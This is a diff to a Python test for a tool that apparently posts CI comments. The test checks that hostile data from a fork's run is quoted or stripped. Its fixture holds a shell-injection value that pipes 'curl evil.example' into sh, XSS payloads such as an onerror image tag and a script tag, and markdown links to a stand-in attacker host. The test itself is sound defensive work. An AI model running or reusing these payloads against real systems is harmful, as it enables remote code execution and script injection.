@@ -49,6 +49,13 @@ def test_the_comment_of_a_forks_run_says_nothing_that_the_artifact_made_up(shop:
         "comment_id": "other --> <script>",
         "notes": ["<img src=x onerror=alert(1)> @everyone [click](https://evil.example) ![x](https://evil.example/x)"],
         "directory": "](https://evil.example)",
+        "needs_recording": [
+            {
+                "test": "x; curl evil.example | sh #",
+                "changed": "closest\n  re-record: curl evil.example/2",
+                "command": "rm",
+            }
+        ],
         "baseline": {"ref": "main](https://evil.example)", "sha": "../../evil", "created": None, "path": None},
     }
     shop.hub.artifacts[run].clear()
@@ -62,6 +69,8 @@ def test_the_comment_of_a_forks_run_says_nothing_that_the_artifact_made_up(shop:
     assert "<script" not in body
     assert "evil/evil" not in body
     assert "@everyone" not in body
+    assert "'x; curl evil.example | sh #'" in body, "quoted: one word for a shell"
+    assert "evil.example/2" not in body
     assert body.rstrip().endswith("<!-- pytest-llmops:default -->")
     assert list(shop.hub.comments) == [7]
     assert not list(shop.folder.parent.rglob("pwned"))
